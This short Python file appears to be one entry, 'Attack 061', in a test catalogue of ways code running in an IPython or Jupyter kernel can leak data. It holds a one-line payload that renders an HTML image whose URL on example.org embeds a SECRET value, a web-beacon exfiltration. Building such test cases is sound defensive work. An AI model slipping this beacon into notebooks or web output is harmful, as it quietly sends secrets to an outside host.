"""Attack 061: remote image"""

IDEA = "An image of another host tells that host whatever stands in its address."
SOURCE = "web beacons"
WAY = "iopub/display_data/data"
CODE = """
from IPython.display import HTML, display

display(HTML('<p>x<img src="https://example.org/%s.png">' % SECRET))
"""
ABSENT = ["SECRET"]
